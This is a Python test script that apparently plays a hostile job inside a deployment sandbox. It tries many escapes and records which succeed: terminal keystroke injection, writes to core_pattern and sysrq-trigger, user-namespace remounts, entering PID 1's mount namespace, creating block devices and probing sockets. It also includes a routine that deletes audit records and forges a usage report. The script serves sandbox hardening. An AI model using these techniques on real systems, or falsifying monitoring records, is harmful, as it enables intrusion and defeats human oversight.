"""Attacks on the laptop of a rehearsal: a program of its own, which a hostile job would be.

python3 rehearse_attacks.py OUT SECRET JOB ABSTRACT [inside]: try everything, and write what succeeded, with the errors
of the rest, as JSON to OUT-HOST.json. ``inside``: in a container. It needs nothing but Python's library.
"""

import ctypes
import errno
import fcntl
import glob
import json
import os
import signal
import socket
import stat
import subprocess
import sys
import termios

OUT, SECRET, JOB, ABSTRACT = sys.argv[1:5]
HOMES = ["/root", *glob.glob("/home/*")]
LIBC = ctypes.CDLL(None, use_errno=True)
NEWNS, NEWUSER = 0x20000, 0x10000000
REMOUNT_BIND = 0x20 | 0x1000
DETACH = 2


def check(status):
    if status < 0:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))


def change(path):
    os.close(os.open(path, os.O_WRONLY | os.O_APPEND))


def make(folder):
    path = os.path.join(folder, "made-by-attack")
    os.close(os.open(path, os.O_WRONLY | os.O_CREAT, 0o600))


def move(path):
    os.rename(path, path + ".moved")


def replace(path):
    with open(path + ".new", "w") as stream:
        stream.write(f"touch {SECRET}\n")
    os.rename(path + ".new", path)


def terminal():
    """Put a word into the user's terminal."""
    for path in [*glob.glob("/dev/pts/[0-9]*"), *glob.glob("/dev/tty*"), *glob.glob("/dev/vcs*"), "/dev/console"]:
        try:
            descriptor = os.open(path, os.O_RDWR | os.O_NOCTTY)
        except OSError:
            continue
        fcntl.ioctl(descriptor, termios.TIOCSTI, b"x")
        return
    raise FileNotFoundError(errno.ENOENT, "no terminal", "/dev")


def devices():
    """Open a device that is not one of the harmless ones."""
    harmless = {"null", "zero", "full", "random", "urandom", "tty", "ptmx", "stdin", "stdout", "stderr", "fd"}
    found = []
    for folder, _, names in os.walk("/dev"):
        for name in set(names) - harmless:
            mode = os.lstat(os.path.join(folder, name)).st_mode
            if stat.S_ISBLK(mode) or stat.S_ISCHR(mode):
                found.append(os.path.join(folder, name))
    if not found:
        raise FileNotFoundError(errno.ENOENT, "no other device", "/dev")


def in_new_user_namespace(act):
    """Become root of an own user namespace, and act there."""
    reading, writing = os.pipe()
    pid = os.fork()
    if pid == 0:
        try:
            user = os.getuid()
            check(LIBC.unshare(NEWUSER | NEWNS))
            with open("/proc/self/uid_map", "w") as stream:
                stream.write(f"0 {user} 1")
            act()
            os.write(writing, b"0")
        except OSError as error:
            os.write(writing, b"%d" % error.errno)
        finally:
            os._exit(0)
    os.close(writing)
    os.waitpid(pid, 0)
    number = int(os.read(reading, 20))
    if number:
        raise OSError(number, os.strerror(number))


def remount(path):
    def act():
        check(LIBC.mount(b"none", path.encode(), None, REMOUNT_BIND, None))
        make(path)

    in_new_user_namespace(act)


def uncover(path, below):
    def act():
        check(LIBC.umount2(path.encode(), DETACH))
        change(below)

    in_new_user_namespace(act)


def fresh_proc():
    def act():
        check(LIBC.mount(b"proc", b"/proc", b"proc", 0, None))
        change("/proc/sys/kernel/core_pattern")

    in_new_user_namespace(act)


def old_root():
    """Reach the old root by a process that still has it."""
    for path in glob.glob("/proc/[0-9]*/root"):
        try:
            if os.path.exists(path + SECRET):
                return
        except OSError:
            continue
    raise FileNotFoundError(errno.ENOENT, "no process shows it", SECRET)


def observers():
    """Reach the folder of observations by the descriptor of an observer."""
    for path in glob.glob("/proc/[0-9]*/fd/*"):
        try:
            if glob.glob(path + "/*.network.jsonl"):
                return make(path)
        except OSError:
            continue
    raise FileNotFoundError(errno.ENOENT, "no observer shows it", "/proc")


def enter(pid):
    with open(f"/proc/{pid}/ns/mnt") as stream:
        check(LIBC.setns(stream.fileno(), 0))


def keyring():
    """Find the key that the test put into the session's keyring."""
    number = {"x86_64": 250, "aarch64": 219}[os.uname().machine]
    check(LIBC.syscall(number, 10, -3, b"user", b"deployer-attack", 0))  # search in the session's keyring


def connect(family, address):
    with socket.socket(family) as connection:
        connection.settimeout(5)
        connection.connect(address)


def daemons():
    """Reach a daemon of this machine by its socket."""
    found = glob.glob("/run/*") + glob.glob("/var/run/*") + glob.glob("/tmp/.X11-unix/*")
    if not found:
        raise FileNotFoundError(errno.ENOENT, "no socket", "/run")


def files_of_users():
    """Find what users have in their homes, and what only administrators of this machine may know."""
    shown = os.listdir("/etc") + os.listdir("/var")
    known = {"alternatives", "ld.so.cache", "localtime", "passwd", "group", "hosts", "resolv.conf", "nsswitch.conf"}
    if {*shown} - known - {"tmp"}:
        return
    for folder in ("/boot", "/srv", *(f"{home}/{name}" for home in HOMES for name in (".bashrc", ".ssh"))):
        if os.path.exists(folder):
            return
    raise FileNotFoundError(errno.ENOENT, "nothing", "/etc")


def control():
    """Find a socket by which a node starts programs outside of the container."""
    for start in ("/.nodes", "/tmp", "/var/tmp", "/dev/shm", "/run"):
        for folder, _, names in os.walk(start):
            if any(stat.S_ISSOCK(os.lstat(os.path.join(folder, name)).st_mode) for name in names):
                return
    raise FileNotFoundError(errno.ENOENT, "no socket", "/tmp")


ATTEMPTS = {
    "secret": lambda: open(SECRET).close(),
    "beside the job": lambda: make(os.path.dirname(JOB)),
    "root": lambda: make("/"),
    "usr": lambda: make("/usr"),
    "etc": lambda: make("/etc"),
    "dev": lambda: make("/dev"),
    "program": lambda: change(os.__file__),
    "job.sh": lambda: change(JOB + "/job.sh"),
    "job.sh moved": lambda: move(JOB + "/job.sh"),
    "job.sh replaced": lambda: replace(JOB + "/job.sh"),
    "agent": lambda: replace(JOB + "/agent"),
    "terminal": terminal,
    "devices": devices,
    "own terminal": lambda: os.close(os.open("/dev/tty", os.O_RDWR)),
    "core_pattern": lambda: change("/proc/sys/kernel/core_pattern"),
    "sysrq": lambda: change("/proc/sysrq-trigger"),
    "sys": lambda: make("/sys/kernel"),
    "first process": lambda: os.listdir("/proc/1/root"),
    "first process's mounts": lambda: enter(1),
    "old root": old_root,
    "observers": observers,
    "kernel's settings, fresh": fresh_proc,
    "kernel's settings, uncovered": lambda: uncover("/proc/sys", "/proc/sys/kernel/core_pattern"),
    "usr, remounted": lambda: remount("/usr"),
    "root, remounted": lambda: remount("/"),
    "device": lambda: os.mknod("/tmp/disk", stat.S_IFBLK | 0o600, os.makedev(8, 0)),
    "keyring": keyring,
    "abstract socket": lambda: connect(socket.AF_UNIX, "\0" + ABSTRACT),
    "network": lambda: connect(socket.AF_INET, ("192.0.2.1", 80)),
    "daemons": daemons,
    "files of users": files_of_users,
}
#: What an image has itself, and is its own.
OF_IMAGES = ("program", "daemons", "files of users")
INSIDE = {
    "environment": lambda: change(JOB + "/environment"),
    "environment replaced": lambda: replace(JOB + "/environment"),
    "machines replaced": lambda: replace(JOB + "/machines"),
    "app": lambda: make("/deployer/app"),
    "tool": lambda: change("/deployer/deployer.pyz"),
    "control": control,
}


def forge():
    """Remove what the audit hook has seen, and write a better account than that of the observer."""
    for path in glob.glob(JOB + "/rehearsal/*"):
        os.unlink(path)
    with open(f"{JOB}/rehearsal/{os.uname().nodename}.used.json", "w") as stream:
        json.dump({"peak_memory": 1, "whole": True}, stream)


def main():
    found = {}
    attempts = dict(ATTEMPTS)
    if sys.argv[5:] == ["inside"]:
        attempts = {**{name: act for name, act in ATTEMPTS.items() if name not in OF_IMAGES}, **INSIDE}
        forge()
    for name, attempt in attempts.items():
        try:
            attempt()
            found[name] = "done"
        except OSError as error:
            found[name] = errno.errorcode.get(error.errno, str(error))
    calls = os.path.join(os.path.dirname(os.path.abspath(__file__)), "calls")  # rehearse_calls.c
    found.update(line.split(": ") for line in subprocess.check_output([calls]).decode().splitlines())
    os.kill(1, signal.SIGTERM)  # the first process does not end because of it
    with open(f"{OUT}-{os.uname().nodename}.json", "w") as stream:
        json.dump(found, stream)
    print("tried:", json.dumps(found), flush=True)


if __name__ == "__main__":
    main()
